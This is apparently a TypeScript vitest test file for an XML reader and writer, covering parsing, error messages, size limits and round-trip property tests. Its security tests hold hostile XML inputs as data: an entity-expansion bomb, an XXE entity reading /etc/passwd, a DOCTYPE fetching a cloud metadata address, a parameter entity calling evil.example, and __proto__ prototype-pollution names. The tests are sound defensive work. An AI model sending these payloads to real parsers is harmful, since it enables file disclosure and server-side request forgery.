import { ComputeError } from '@sluice/shared/connector';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse } from './parse.js';
import { write } from './write.js';

const read = (text: string, lists: string[] = []) => parse.compute(parse.input.parse({ text, lists })).value;
const written = (value: object, more: object = {}) =>
  write.compute(write.input.parse({ value, declaration: false, ...more })).text;

describe('read', () => {
  it('gives attributes, elements, lists and text', () => {
    const text = `<?xml version="1.0" encoding="UTF-8"?>
      <!-- an order --><order id="1042" xmlns:x="urn:x">
        <item>A-100</item><item sku="B"> two </item><x:note>a &lt;b&gt; &#x41;&#66;<![CDATA[ & c]]></x:note><none/>
      </order>`;
    expect(read(text)).toEqual({
      order: {
        '@id': '1042',
        '@xmlns:x': 'urn:x',
        item: ['A-100', { '@sku': 'B', '#text': ' two ' }],
        'x:note': 'a <b> AB & c',
        none: '',
      },
    });
  });

  it('makes a list of what is named as one', () => {
    expect(read('<r><item>1</item></r>')).toEqual({ r: { item: '1' } });
    expect(read('<r><item>1</item></r>', ['item'])).toEqual({ r: { item: ['1'] } });
  });

  it.each([
    ['<a>\n<b></a>', 'Line 2 is not XML: unexpected close tag.'],
    ['<a>', 'Line 1 is not XML: unclosed tag: a.'],
    ['<a>&nbsp;</a>', 'Line 1 is not XML: undefined entity.'],
    ['<a b="1" b="2"/>', 'Line 1 is not XML: duplicate attribute: b.'],
    ['<a/>\n<b/>', 'Line 2 is not XML: documents may contain only one root.'],
    ['hello', 'Line 1 is not XML: text data outside of root node.'],
    ['', 'Line 1 is not XML: document must contain a root element.'],
    ['<a>\u0001</a>', 'Line 1 is not XML: disallowed character.'],
    ['<a>'.repeat(101), 'Line 1 is nested deeper than 100 elements.'],
  ])('says which line is wrong: %#', (text, message) => {
    expect(() => read(text)).toThrow(new ComputeError(message));
  });

  it.each([
    ['a bomb', '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'],
    ['a file', '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'],
    ['an address', '<!DOCTYPE l SYSTEM "http://169.254.169.254/"><l/>'],
    ['a parameter entity', '<!DOCTYPE l [<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;]><l/>'],
  ])('F13: opens no entity: %s', (_, text) => {
    expect(() => read(text)).toThrow('has a document type');
  });

  it('F13: takes elements and attributes of any name for data', () => {
    const value = read('<__proto__ constructor="1"><__proto__ admin="1"/><prototype>x</prototype></__proto__>');
    expect(JSON.stringify(value)).toBe('{"__proto__":{"@constructor":"1","__proto__":{"@admin":"1"},"prototype":"x"}}');
    expect(Reflect.get({}, '@admin')).toBeUndefined();
  });

  it('reads or refuses 512 KiB in a fraction of a second, whatever is in it', () => {
    const size = 524_288;
    const texts = [
      `<r>${'<a id="1">t&amp;x</a>'.repeat(24_000)}</r>`,
      `<r>${'<a/>'.repeat(131_000)}</r>`,
      '<a>'.repeat(170_000),
      `<a>${'&amp;'.repeat(100_000)}</a>`,
      `<a ${Array.from({ length: 45_000 }, (_, at) => `x${at}=""`).join(' ')}/>`,
      `<a>${'<!---->'.repeat(74_000)}</a>`,
    ];
    for (const text of texts) {
      expect(text.length).toBeLessThan(size);
      const begin = performance.now();
      try {
        read(text);
      } catch (error) {
        expect(error).toBeInstanceOf(ComputeError);
      }
      expect(performance.now() - begin).toBeLessThan(600);
    }
    expect(parse.input.safeParse({ text: ' '.repeat(size + 1) }).success).toBe(false);
  });
});

describe('write', () => {
  it('escapes text and attributes, and indents when asked', () => {
    const value = { r: { '@a': '"<&\n', b: ['x & y', null, 5], c: { '#text': 't', '@d': true } } };
    expect(written(value)).toBe('<r a="&quot;&lt;&amp;&#10;"><b>x &amp; y</b><b/><b>5</b><c d="true">t</c></r>');
    expect(written({ r: { b: ['1', '2'] } }, { indent: true, declaration: true })).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n<r>\n  <b>1</b>\n  <b>2</b>\n</r>',
    );
  });

  it.each([
    [{ 'a b': 1 }, '"a b" can\'t be the name'],
    [{ 'a><script': 1 }, "can't be the name"],
    [{ r: { '@x y': 1 } }, "can't be the name"],
    [{ r: { '@x': {} } }, '@x holds a list or a record'],
    [{ r: '\u0000' }, 'a control character'],
    [{ a: 1, b: 2 }, 'one root element'],
    [{ a: [1] }, 'one root element'],
    [{}, 'one root element'],
    [{ r: { ['n'.repeat(10_000)]: Array.from({ length: 200 }, () => 1) } }, 'larger than 1 MiB'],
  ])('refuses %#', (value, message) => {
    expect(() => written(value)).toThrow(message);
  });
});

const name = fc
  .string({ unit: fc.constantFrom('a', 'B', 'é', '_', ':', '-', '.', '1', '漢'), minLength: 1, maxLength: 5 })
  .filter((text) => /^[aBé_漢]/.test(text));
const text = fc
  .string({
    unit: fc.oneof(
      fc.constantFrom('<', '>', '&', '"', "'", ']]>', '\n', '\r', '\t', '&amp;'),
      fc.string({ unit: 'grapheme', maxLength: 1 }),
    ),
  })
  .filter((one) => !/[^\t\n\r\u{20}-\u{D7FF}\u{E000}-\u{FFFD}\u{10000}-\u{10FFFF}]/u.test(one));
const solid = text.filter((one) => one.trim() !== '');

/** Values in the form that reading gives: one of a name is no list, and text beside elements is more than white space. */
const element = fc.letrec<{ any: unknown; record: unknown; member: unknown }>((tie) => ({
  any: fc.oneof({ maxDepth: 4 }, text, tie('record')),
  member: fc.oneof(tie('any'), fc.array(tie('any'), { minLength: 2, maxLength: 3 })),
  record: fc
    .record({
      attributes: fc.dictionary(name, text, { maxKeys: 2 }),
      text: fc.option(solid, { nil: undefined }),
      children: fc.dictionary(name, tie('member'), { maxKeys: 3 }),
    })
    .map(({ attributes, text: own, children }) => {
      const all = [
        ...Object.entries(attributes).map(([key, value]): [string, unknown] => [`@${key}`, value]),
        ...(own === undefined ? [] : [['#text', own] as const]),
        ...Object.entries(children),
      ];
      if (all.length === 0) return '';
      return all.length === 1 && all[0]?.[0] === '#text' ? own : Object.fromEntries(all);
    }),
}));

it('what is written is read again as it was', () => {
  fc.assert(
    fc.property(name, element.any, (root, value) => {
      const document = { [root]: value };
      expect(read(written(document))).toEqual(document);
    }),
    { numRuns: 300 },
  );
});
